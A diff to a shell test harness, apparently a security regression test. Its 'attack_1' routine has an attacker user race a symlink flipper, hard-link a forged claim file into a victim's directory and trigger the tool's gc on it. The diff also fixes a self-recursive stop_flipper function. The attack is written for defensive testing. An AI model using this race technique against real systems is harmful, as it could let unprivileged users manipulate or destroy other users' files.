@@ -80,7 +80,7 @@ start_flipper() { # DIR SECONDS
     flipper=$!
 }
 stop_flipper() {
-    stop_flipper
+    kill -9 "$flipper" 2>/dev/null
     wait "$flipper" 2>/dev/null
 }
 
@@ -126,12 +126,12 @@ attack_1() {
     victim_setup "$t"
     start_flipper "$t" 120
     evil=$base/swerve-claim.evilevilevil
-    as_user "$att" mkdir -m 700 "$evil" "$evil/claims"
     sleep 0 &
     dead=$!
     wait "$dead"
     for round in $(seq 10); do
-        as_user "$att" sh -c "printf '%s 0\n' $dead >'$evil/claims/.holder.$dead' &&
+        # gc removes the abandoned directory: it is built again each round.
+        as_user "$att" sh -c "mkdir -p -m 700 '$evil/claims' && printf '%s 0\n' $dead >'$evil/claims/.holder.$dead' &&
             ln -f '$evil/claims/.holder.$dead' '$t/att/d1/keep' &&
             yes '$t/att$slow/ln/target' | head -n 100000 >>'$evil/claims/.holder.$dead'"
         timeout -s KILL 60 "$tool" --base "$base" gc --server "$evil" >/dev/null 2>&1
